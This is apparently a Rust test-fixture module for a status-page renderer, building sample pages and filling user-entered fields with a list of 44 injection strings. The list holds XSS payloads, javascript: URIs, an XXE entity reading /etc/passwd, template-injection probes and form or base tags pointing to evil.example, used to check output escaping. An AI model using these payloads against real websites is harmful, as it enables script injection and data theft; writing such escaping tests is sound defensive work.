//! Status pages for tests, and strings that would do something if they were not escaped.

use telltale_engine::TimestampMs;

use super::model::{
    ComponentStatus, IncidentImpact, IncidentStatus, MaintenanceStatus, PageStatus, PublicBranding,
    PublicComponent, PublicDay, PublicGroup, PublicIncident, PublicMaintenance, PublicPage,
    PublicUpdate,
};

/// 2026-01-02T03:04:05.678Z.
pub(super) const NOW: TimestampMs = TimestampMs(1_767_323_045_678);

const MINUTE_MS: i64 = 60_000;
const HOUR_MS: i64 = 60 * MINUTE_MS;
const DAY_MS: i64 = 24 * HOUR_MS;
const TODAY: i64 = NOW.0 / DAY_MS;
/// A day in the type of a component's history.
const WHOLE_DAY_MS: u32 = 86_400_000;

const HOSTILE: [&str; 44] = [
    "<script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' autofocus onfocus='alert(1)",
    "` onclick=`alert(1)",
    " onfocus=alert(1) tabindex=1 ",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "\u{1}java\tscript\n:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "https://a.example/\"onload=\"alert(1)",
    "https://a.example/'); background: url(//evil.example",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\"/></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></mtext><mglyph><style></math><img src=x onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</bdi></li></ul></main><iframe src=//evil.example>",
    "<!--<script>alert(1)//-->",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>&b;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "&quot; onclick=&quot;alert(1)",
    "{{ 7 * 7 }}{% include \"/etc/passwd\" %}{# #}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "`${alert(1)}`",
    "a\u{2028}alert(1)\u{2029}",
    "\u{202e}txt.exe\u{202d}\u{2066}\u{2067}\u{2068}",
    "\0<script>\0alert(1)</scr\0ipt>",
    "\u{8}\u{b}\u{c}\u{1b}[31mred\u{7f}\u{85}\u{9b}",
    "\u{feff}<script>alert(1)</script>\u{ffff}\u{fffe}\u{1fffe}",
    "<a href=\"javas\tcript:alert(1)\">x</a>",
    "<form action=//evil.example><input name=email><button formaction=//evil.example>",
    "<link rel=stylesheet href=//evil.example><base href=//evil.example><meta http-equiv=refresh \
     content=0>",
    "<template shadowrootmode=open><slot onslotchange=alert(1)>",
];

/// Returns strings that would do something if they were not escaped, and some that are long.
pub(super) fn hostile() -> Vec<String> {
    let long = ["x", "W", "漢", "<", "&", "\"", "e\u{301}", "\n", "\u{202e}"];
    let long = long.map(|text| text.repeat(10_000));
    HOSTILE.into_iter().map(str::to_owned).chain(long).collect()
}

/// Returns a page that has everything, with `text` wherever users enter text.
pub(super) fn page(text: &str) -> PublicPage {
    let component = PublicComponent {
        id: String::new(),
        name: text.to_owned(),
        status: ComponentStatus::MajorOutage,
        uptime_90d: Some(99.981),
        days: days(|day| match TODAY - day {
            0 => PublicDay { incidents: vec![text.to_owned(); 2], ..down(14) },
            1 => PublicDay { incidents: vec![text.to_owned()], ..up() },
            2 => degraded(3),
            3 => maintenance(60),
            4 => PublicDay::default(),
            _ => up(),
        }),
    };
    let group = |name| PublicGroup { name, components: vec![component.clone()] };
    PublicPage {
        name: text.to_owned(),
        base_path: "/status/acme".to_owned(),
        absolute_url: "https://status.acme.example".to_owned(),
        branding: PublicBranding {
            logo_url: Some(text.to_owned()),
            primary_color: Some(text.to_owned()),
        },
        status: PageStatus::PartialOutage,
        updated_at: NOW,
        groups: vec![group(Some(text.to_owned())), group(None)],
        incidents: vec![open_incident(text), resolved_incident(text)],
        maintenances: vec![PublicMaintenance {
            id: "maint_1".to_owned(),
            title: text.to_owned(),
            description: Some(text.to_owned()),
            status: MaintenanceStatus::Scheduled,
            starts_at: NOW,
            ends_at: TimestampMs(NOW.0 + HOUR_MS),
            components: vec![text.to_owned(); 2],
        }],
        can_subscribe: true,
    }
}

fn open_incident(text: &str) -> PublicIncident {
    let update = |status| PublicUpdate { status, message: text.to_owned(), at: NOW };
    PublicIncident {
        id: "inc_1".to_owned(),
        title: text.to_owned(),
        impact: IncidentImpact::Major,
        status: IncidentStatus::Identified,
        started_at: NOW,
        updated_at: NOW,
        resolved_at: None,
        components: vec![text.to_owned(); 2],
        updates: vec![update(IncidentStatus::Identified), update(IncidentStatus::Investigating)],
        is_shortened: false,
    }
}

fn resolved_incident(text: &str) -> PublicIncident {
    let open = open_incident(text);
    PublicIncident {
        id: "inc_2".to_owned(),
        status: IncidentStatus::Resolved,
        started_at: TimestampMs(NOW.0 - 88 * MINUTE_MS),
        resolved_at: Some(NOW),
        ..open
    }
}

/// Returns the page of someone who has only given it a name.
pub(super) fn empty_page() -> PublicPage {
    PublicPage {
        name: "Acme".to_owned(),
        base_path: String::new(),
        absolute_url: "https://status.acme.example".to_owned(),
        branding: PublicBranding::default(),
        status: PageStatus::Operational,
        updated_at: NOW,
        groups: Vec::new(),
        incidents: Vec::new(),
        maintenances: Vec::new(),
        can_subscribe: false,
    }
}

/// Returns the page of a company with this many components.
pub(super) fn large_page(components: i64) -> PublicPage {
    let component = |number: i64| PublicComponent {
        id: String::new(),
        name: format!("Service {number}"),
        status: ComponentStatus::Operational,
        uptime_90d: Some(99.98),
        days: days(|day| match (day + number * 7) % 45 {
            0 => down(day % 50 + 1),
            1 => degraded(number % 50 + 1),
            2 => maintenance(120),
            _ => up(),
        }),
    };
    let group = |name: &str, numbers: std::ops::Range<i64>| PublicGroup {
        name: Some(name.to_owned()),
        components: numbers.map(component).collect(),
    };
    let groups = vec![group("Europe", 0..components / 2), group("US", components / 2..components)];
    PublicPage { name: "Acme".to_owned(), groups, ..page("Checkout fails for some customers") }
}

fn days(of: impl Fn(i64) -> PublicDay) -> Vec<PublicDay> {
    (TODAY - 89..=TODAY).map(|day| PublicDay { day, ..of(day) }).collect()
}

fn up() -> PublicDay {
    PublicDay { up_ms: WHOLE_DAY_MS, ..PublicDay::default() }
}

fn down(minutes: i64) -> PublicDay {
    let down_ms = ms(minutes);
    PublicDay { up_ms: WHOLE_DAY_MS - down_ms, down_ms, ..PublicDay::default() }
}

fn degraded(minutes: i64) -> PublicDay {
    let degraded_ms = ms(minutes);
    PublicDay { up_ms: WHOLE_DAY_MS - degraded_ms, degraded_ms, ..PublicDay::default() }
}

fn maintenance(minutes: i64) -> PublicDay {
    let maintenance_ms = ms(minutes);
    PublicDay { up_ms: WHOLE_DAY_MS - maintenance_ms, maintenance_ms, ..PublicDay::default() }
}

fn ms(minutes: i64) -> u32 {
    u32::try_from(minutes * MINUTE_MS).unwrap_or(WHOLE_DAY_MS).min(WHOLE_DAY_MS)
}
